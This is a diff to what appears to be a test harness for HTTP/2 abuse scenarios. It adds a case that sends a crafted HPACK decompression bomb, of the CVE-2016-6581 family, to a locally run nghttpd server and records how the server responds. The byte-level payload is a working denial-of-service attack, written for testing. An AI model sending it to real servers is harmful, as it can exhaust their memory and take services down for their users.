@@ -204,6 +204,34 @@ const SCENARIOS = {
       expect: { pings, server: result },
     };
   },
+  async 'abuse-hpack-bomb-nghttpd'() {
+    const blocks = 3;
+    const refs = 4000;
+    const result = await withNghttpd(async () => {
+      const session = await withSession(PORT, async (s) => {
+        // RFC 7541 §6.2.1: a 4,000-byte literal with incremental indexing becomes dynamic entry 62...
+        const value = Buffer.alloc(4000, 'a');
+        const name = Buffer.from('x-big');
+        const entry = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, 0xa1, 0x1e]), value]);
+        s.send(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 1, Buffer.concat([getRequest(PORT), entry])));
+        await sleep(50);
+        // ...and every later block is one-byte references to it (§6.1, 0xbe = index 62).
+        for (let i = 0; i < blocks; i++) {
+          const block = Buffer.concat([getRequest(PORT), Buffer.alloc(refs, 0xbe)]);
+          s.send(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 3 + 2 * i, block));
+        }
+        await s.drain();
+        await sleep(300);
+      });
+      return serverSummary(session);
+    });
+    return {
+      description:
+        `CRAFTED HPACK bomb (CVE-2016-6581 family; scripts/samples/abuse/flood-client.mjs) against a real nghttpd ${await version('nghttpd', ['--version'])}: ` +
+        `GET / on stream 1 adds a 4,000-byte header field to the HPACK dynamic table, then ${blocks} GET / requests each carry ${refs} one-byte references to it (about 16 MB of header fields each).`,
+      expect: { blocks, referencesPerBlock: refs, server: result },
+    };
+  },
   async 'abuse-floods-nghttpd'() {
     const n = 300;
     const result = await withNghttpd(async () => {
